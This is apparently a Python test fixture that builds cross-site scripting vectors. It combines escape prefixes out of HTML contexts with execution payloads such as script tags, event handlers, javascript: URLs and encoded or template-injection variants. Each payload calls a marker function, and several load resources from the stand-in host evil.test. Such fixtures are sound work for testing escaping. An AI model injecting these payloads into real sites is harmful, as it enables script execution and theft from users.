"""Words that would be run where a page forgot to escape them: every way out of a context with every way to run."""

MARK = "ran("
"""Stands in every vector, and in nothing else that a page says."""

OUT = (
    "", "\">", "'>", "\" ", "' ", "`", "-->", "</title>", "</textarea>", "</script>", "</style>", "</select>",
    "</noscript>", "]]>",
)  # fmt: skip
"""Out of text, an attribute, a comment, an element whose words are no markup, CDATA."""
RUN = (
    "<script zz>ran(1)</script>",
    "<img zz src=x onerror=ran(1)>",
    "<svg zz onload=ran(1)>",
    "<svg><script zz>ran(1)</script>",
    "<a zz href=javascript:ran(1)>x</a>",
    "<a zz href='java\tscript:ran(1)'>x",
    "<iframe zz src=javascript:ran(1)>",
    "<iframe zz srcdoc='<script>ran(1)</script>'>",
    "<details zz open ontoggle=ran(1)>",
    "<input zz autofocus onfocus=ran(1)>",
    "<video zz src=x onerror=ran(1)>",
    "<body zz onload=ran(1)>",
    "<form zz action=javascript:ran(1)>",
    "<object zz data=//evil.test/ran(1)>",
    "<base zz href=//evil.test/ran(1)/>",
    "<link zz rel=stylesheet href=//evil.test/ran(1)>",
    "<meta zz http-equiv=refresh content=0;//evil.test/ran(1)>",
    "<style zz>@import'//evil.test/ran(1)'</style>",
    "<ImG zz SrC=x OnErRoR=ran(1)>",
    "<img/zz/src=x/onerror=ran(1)>",
    "<math><mtext></p><img zz src=x onerror=ran(1)>",
    "zz onmouseover=ran(1) autofocus onfocus=ran(1) x=",
    "zz style=animation-name:x onanimationstart=ran(1) x=",
)
CODED = (
    "&lt;img zz src=x onerror=ran(1)&gt;", "&#60;img zz src=x onerror=ran(1)&#62;", "%3Cimg zz src=x onerror=ran(1)%3E",
    "\\u003cimg zz src=x onerror=ran(1)\\u003e", "＜img zz src=x onerror=ran(1)＞", "{{ran(1)}}", "{% print ran(1) %}",
    "${ran(1)}", "javascript:ran(1)", "data:text/html,<script zz>ran(1)</script>", "'-ran(1)-'", "\";ran(1)//",
    "[x](javascript:ran(1))", "![x](//evil.test/ran(1))", "<!--><img zz src=x onerror=ran(1)>",
)  # fmt: skip
"""What something on the way could decode, fill in or read as Markdown."""

VECTORS = tuple(f"{out}{run}" for run in RUN for out in OUT) + CODED
ALL = " ".join(VECTORS)
"""In one field: too long for most, so that the form is refused and shows it again."""
